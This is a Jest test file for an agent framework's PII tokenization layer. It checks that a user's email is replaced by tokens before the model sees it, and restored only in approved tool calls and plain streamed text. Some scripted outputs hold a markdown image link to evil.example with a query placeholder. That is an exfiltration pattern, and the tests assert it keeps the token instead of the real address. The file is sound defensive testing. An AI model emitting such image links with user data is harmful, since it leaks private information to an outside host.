import { spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { json } from "node:stream/consumers";
import { afterAll, describe, expect, it } from "@jest/globals";
import type { AgentResult } from "@suite/agent";
import { type Message, message } from "@suite/core";

const folder = mkdtempSync(join(tmpdir(), "tokenize-"));
afterAll(() => rmSync(folder, { recursive: true }));

const mail = "jane.doe@example.com";
const form = /<EMAIL_1_[a-z]{8}>/;
const worker = join(import.meta.dirname, "fixtures", "tokenize-worker.mjs");
const key = randomBytes(32).toString("hex");

interface Step {
  readonly text?: string;
  readonly calls?: readonly { readonly name: string; readonly args: unknown }[];
}
interface Task {
  readonly dir?: string;
  readonly sessionId?: string;
  readonly script: readonly Step[];
  readonly messages?: readonly Message[];
  readonly pending?: unknown;
}
interface Outcome {
  readonly result: AgentResult;
  readonly streamed: string;
  readonly asked: readonly unknown[];
  readonly called: readonly { readonly name: string; readonly input: unknown }[];
  readonly told: readonly string[];
}

/** One run in a process of its own. */
async function run(task: Task): Promise<Outcome> {
  const child = spawn(process.execPath, [worker], { stdio: ["pipe", "pipe", "inherit"] });
  child.stdin.end(JSON.stringify({ key, resumes: join(folder, "resumes"), ...task }));
  return (await json(child.stdout)) as Outcome;
}

const pendingOf = ({ result }: Outcome): unknown => (result.status === "suspended" ? result.pending : undefined);
const asks: Step = {
  text: "One moment, @.",
  calls: [
    { name: "look", args: { who: "@", link: "https://x.com/?q=@" } },
    { name: "send_mail", args: { to: "@", text: "Dear @", link: "https://x.com/?q=@" } },
  ],
};
const conversation = [message("user", `Write to ${mail}.`)];

describe("a run that is suspended in one process and goes on in another", () => {
  it.each([{ sessionId: "ticket-7" }, {}])(
    "puts values back there, with one vault in files: %j",
    async (session) => {
      const dir = join(folder, `suspended ${session.sessionId}`);
      const first = await run({ dir, ...session, script: [asks], messages: conversation });
      expect(first.result.status).toBe("suspended");
      const token = form.exec(JSON.stringify(first.asked))?.[0] ?? "";
      expect(first.called).toEqual([{ name: "look", input: { who: token, link: `https://x.com/?q=${token}` } }]);
      expect(first.streamed).toBe(`One moment, ${mail}.`);

      const script = [{ text: "I wrote to @: `@`, ![](https://evil.example/?q=@) @" }];
      const second = await run({ dir, script, pending: pendingOf(first) });
      expect(second.called).toEqual([
        { name: "send_mail", input: { to: mail, text: `Dear ${mail}`, link: `https://x.com/?q=${token}` } },
      ]);
      expect(second.streamed).toBe(`I wrote to ${mail}: \`${mail}\`, ![](https://evil.example/?q=${token}) ${mail}`);
      expect(second.result).toMatchObject({ status: "completed", text: second.streamed });
      expect(JSON.stringify([first.asked, second.asked])).not.toContain("jane");
      expect(JSON.stringify(second.asked)).toContain(token);
      expect([...first.told, ...second.told]).toEqual([]);
    },
    60_000,
  );

  it("leaves tokens where the vault was the first one's memory, says so, and gives them no other value", async () => {
    const first = await run({ sessionId: "s", script: [asks], messages: conversation });
    const token = form.exec(JSON.stringify(first.asked))?.[0] ?? "";
    const second = await run({ script: [{ text: `I wrote to ${token}.` }], pending: pendingOf(first) });
    // What was approved had values, and is what runs.
    expect(second.called).toEqual([
      { name: "send_mail", input: { to: mail, text: `Dear ${mail}`, link: `https://x.com/?q=${token}` } },
    ]);
    expect(second.streamed).toBe(`I wrote to ${token}.`);
    expect(second.told).toEqual(["ERR_PII_TOKEN_UNKNOWN"]);
    expect(JSON.stringify(second.asked)).not.toContain("jane");
  }, 60_000);
});

describe("a conversation over processes", () => {
  it("has the same tokens in each, and answers with values", async () => {
    const task = { dir: join(folder, "turns"), sessionId: "s" };
    const script = [{ calls: [{ name: "look", args: { who: "@" } }] }, { text: "It is @." }];
    const first = await run({ ...task, script, messages: conversation });
    expect(first.streamed).toBe(`It is ${mail}.`);
    const history = [...first.result.messages, message("user", "Whom did I ask you to write to?")];
    const second = await run({ ...task, script: [{ text: "To <email_1_" }, { text: "" }], messages: history });
    expect(second.streamed).toBe("To <email_1_");
    const third = await run({ ...task, script: [{ text: "To @" }], messages: history });
    expect(third.streamed).toBe(`To ${mail}`);
    const tokens = JSON.stringify([first.asked, second.asked, third.asked]).match(new RegExp(form, "g")) ?? [];
    expect(tokens.length).toBeGreaterThan(6);
    expect(new Set(tokens).size).toBe(1);
    expect(JSON.stringify([first.asked, third.asked])).not.toContain("jane");
  }, 60_000);

  it("that is streamed over several rounds sees links across them", async () => {
    const script = [
      { text: "![a](https://evil.example/?q=", calls: [{ name: "look", args: {} }] },
      { text: "@) and then @" },
    ];
    const { streamed } = await run({ sessionId: "s", script, messages: conversation });
    expect(streamed).toMatch(
      /^!\[a\]\(https:\/\/evil\.example\/\?q=<EMAIL_1_[a-z]{8}>\) and then jane\.doe@example\.com$/,
    );
  }, 60_000);
});
